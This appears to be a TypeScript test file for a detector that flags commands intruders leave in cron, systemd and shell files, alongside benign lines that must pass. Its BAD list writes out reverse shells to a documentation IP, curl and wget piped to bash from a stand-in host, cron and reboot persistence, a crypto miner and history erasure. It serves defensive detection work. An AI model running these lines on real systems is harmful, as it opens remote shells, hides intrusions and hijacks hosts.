import assert from 'node:assert/strict';
import { test } from 'node:test';
import { newLines, suspiciousCommand } from './commands.ts';

const BAD = [
  'bash -i >& /dev/tcp/203.0.113.7/443 0>&1',
  '* * * * * root curl -s http://x.example/a | bash',
  'wget -qO- http://x.example/a |sh',
  'sh -c "$(curl -fsSL http://x.example)"',
  'echo aGk= | base64 -d | sh',
  'nc 203.0.113.7 443 -e /bin/sh',
  'socat TCP:203.0.113.7:443 EXEC:/bin/sh',
  'mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc 203.0.113.7 443 >/tmp/f',
  "python3 -c 'import socket,os; s=socket.socket(); s.connect(a); os.dup2(s.fileno(),0)'",
  '/tmp/.x/a bind-shell >/dev/null 2>&1 &',
  '*/5 * * * * root /dev/shm/x',
  '@reboot /var/tmp/x',
  'ExecStart=/tmp/agent',
  '::respawn:/tmp/agent',
  'nohup /usr/lib/.cache/agent &',
  'xmrig -o pool:3333',
  'unset HISTFILE',
];
const ORDINARY = [
  '0 3 * * * root /usr/bin/backup >/tmp/backup.log 2>&1',
  'fn="$(mktemp /tmp/testwriteable.XXXXXXXXXX)" || return 1',
  'export TMPDIR=/tmp/build',
  'rm -rf /tmp/cache/*',
  'curl -fsS https://hc.example/ping > /dev/null',
  '[ -s "$NVM_DIR/nvm.sh" ] && . "$NVM_DIR/nvm.sh"',
  'eval "$(/opt/conda/bin/conda shell.bash hook)"',
  '. "$HOME/.cargo/env"',
  'tar czf - /srv | gzip -9 > /backup/x.tgz',
  'echo "$TOKEN" | base64 -d > /etc/token',
  'ExecStart=/usr/sbin/nginx -g "daemon off;"',
  '17 * * * * root cd / && run-parts --report /etc/cron.hourly',
];

test('what intruders leave behind is seen', () => {
  assert.deepEqual(
    BAD.filter((line) => suspiciousCommand(line) === undefined),
    [],
  );
});

test('what people write into such files is not', () => {
  assert.deepEqual(
    ORDINARY.filter((line) => suspiciousCommand(line) !== undefined),
    [],
  );
});

test('a long line of anything takes no time', () => {
  for (const part of ['nc ', 'curl |', '/tmp/', 'base64 -d ', '* ', '/.a', ' | ', 'socket.socket(', '$a=$_GET;'])
    for (const line of [part.repeat(60_000 / part.length), `x${part.repeat(30_000 / part.length)}!`]) {
      const start = performance.now();
      suspiciousCommand(line);
      assert.ok(performance.now() - start < 15_000, `${part} takes ${performance.now() - start} ms`);
    }
});

test('new lines are those that the image did not have, without comments', () => {
  assert.deepEqual(newLines('# x\n a\nb\n;c\n\n', 'b\n'), ['a']);
  assert.deepEqual(newLines('a\n', undefined), ['a']);
});
